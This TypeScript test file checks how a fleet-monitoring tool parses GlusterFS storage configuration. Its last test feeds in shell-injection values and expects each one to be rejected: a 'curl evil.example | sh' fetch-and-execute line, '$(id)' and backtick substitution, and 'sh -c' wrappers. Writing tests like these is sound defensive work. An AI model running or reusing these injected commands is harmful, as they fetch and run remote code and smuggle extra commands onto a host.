import { homedir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigError, parseConfigText } from '../../../../electron/engine/config/load-config';

const load = (yaml: string, env: NodeJS.ProcessEnv = {}) => parseConfigText(yaml, { baseDir: '/etc/fleetscope', source: 'fleet.yaml', env });

describe('storage: entries of the fleet config', () => {
  it('reads an SSH source with defaults, resolving ~/ and relative paths like tls.caFile', () => {
    const { config, warnings } = load(`
storage:
  - id: shared-home
    name: Shared home
    gluster:
      ssh: { host: gluster1.example.com, username: root, privateKeyFile: ~/.ssh/id_ed25519, knownHostsFile: keys/known_hosts }
`);
    const s = config.storage[0]!;
    expect(s.gluster).toEqual({
      ssh: {
        host: 'gluster1.example.com',
        port: 22,
        username: 'root',
        privateKeyFile: join(homedir(), '.ssh/id_ed25519'),
        knownHostsFile: '/etc/fleetscope/keys/known_hosts',
        command: ['gluster'],
        connectTimeoutSeconds: 10,
      },
    });
    expect(s).toMatchObject({ healIntervalSeconds: 60, commandTimeoutSeconds: 60, expectedVolumes: [] });
    expect(s.thresholds).toMatchObject({ capacityWarningPercent: 80, capacityCriticalPercent: 90, inodesWarningFreePercent: 10, inodesCriticalFreePercent: 5 });
    expect(warnings).toEqual([]);
  });

  it('reads a local command: a name stays a name (PATH), a relative path resolves', () => {
    const { config } = load(`
storage:
  - { id: a, name: A, gluster: { local: { command: gluster } } }
  - { id: b, name: B, gluster: { local: { command: ./bin/fake-gluster } }, healIntervalSeconds: 300, expectedVolumes: [bbshared] }
`);
    expect(config.storage.map((s) => s.gluster)).toEqual([{ local: { command: ['gluster'] } }, { local: { command: ['/etc/fleetscope/bin/fake-gluster'] } }]);
    expect(config.storage[1]).toMatchObject({ healIntervalSeconds: 300, expectedVolumes: ['bbshared'] });
  });

  it('takes the key passphrase from the environment, and warns when it is inline', () => {
    const yaml = (p: string) => `
storage:
  - id: a
    name: A
    gluster: { ssh: { host: h, username: u, privateKeyFile: /k, knownHostsFile: /kh, passphrase: "${p}" } }
`;
    const fromEnv = load(yaml('${env:GL_PASS}'), { GL_PASS: 's3cret' });
    expect(fromEnv.config.storage[0]!.gluster).toMatchObject({ ssh: { passphrase: 's3cret' } });
    expect(fromEnv.warnings).toEqual([]);
    expect(load(yaml('inline')).warnings.join('\n')).toMatch(/passphrase is written inline/);
  });

  it('refuses what cannot work, saying what to fix', () => {
    const bad = (yaml: string): string => {
      try {
        load(yaml);
      } catch (e) {
        expect(e).toBeInstanceOf(ConfigError);
        return (e as Error).message;
      }
      throw new Error('accepted');
    };
    expect(bad('storage: [{ id: a, name: A, gluster: {} }]')).toMatch(/gluster needs exactly one of/);
    expect(bad('storage: [{ id: a, name: A, gluster: { ssh: { host: h, username: u, privateKeyFile: /k } } }]')).toMatch(/gluster/);
    expect(
      bad('storage: [{ id: a, name: A, gluster: { local: { command: gluster } } }, { id: a, name: B, gluster: { local: { command: gluster } } }]'),
    ).toMatch(/duplicate storage id "a"/);
    expect(
      bad('storage: [{ id: a, name: A, gluster: { local: { command: gluster } }, thresholds: { capacityWarningPercent: 95, capacityCriticalPercent: 90 } }]'),
    ).toMatch(/capacityCriticalPercent must be at least/);
    expect(bad('storage: [{ id: a, name: A, gluster: { local: { command: gluster } }, healIntervalSeconds: 1 }]')).toMatch(/healIntervalSeconds/);
  });

  it('takes the gluster command as an argv of one allowed shape, never shell syntax (finding 2)', () => {
    const cmd = (c: string) => load(`storage: [{ id: a, name: A, gluster: { local: { command: ${c} } } }]`);
    const ssh = (c: string) =>
      load(`storage: [{ id: a, name: A, gluster: { ssh: { host: h, username: u, privateKeyFile: /k, knownHostsFile: /kh, command: ${c} } } }]`);
    expect(cmd('"sudo -n gluster"').config.storage[0]!.gluster).toEqual({ local: { command: ['sudo', '-n', 'gluster'] } });
    expect(cmd('[/usr/sbin/gluster, --remote-host=gl1.example.com]').config.storage[0]!.gluster).toEqual({
      local: { command: ['/usr/sbin/gluster', '--remote-host=gl1.example.com'] },
    });
    const refused = (f: () => unknown): string => {
      try {
        f();
      } catch (e) {
        expect(e).toBeInstanceOf(ConfigError);
        return (e as Error).message;
      }
      throw new Error('accepted');
    };
    expect(refused(() => cmd('/usr/bin/id'))).toMatch(/the program must be gluster/);
    expect(refused(() => cmd('[sh, -c, gluster]'))).toMatch(/the program must be gluster/);
    expect(refused(() => cmd('"gluster; curl evil.example | sh"'))).toMatch(/characters a shell would interpret/);
    expect(refused(() => ssh('"gluster $(id)"'))).toMatch(/characters a shell would interpret/);
    expect(refused(() => ssh('"gluster `id`"'))).toMatch(/characters a shell would interpret/);
    expect(refused(() => ssh('["gluster", "volume info"]'))).toMatch(/characters a shell would interpret/);
    expect(refused(() => ssh('"sudo -u root gluster"'))).toMatch(/sudo takes only -n/);
    expect(refused(() => ssh('"gluster volume"'))).toMatch(/only --option/);
    expect(refused(() => ssh('"gluster --x=a&b"'))).toMatch(/characters a shell would interpret/);
  });
});
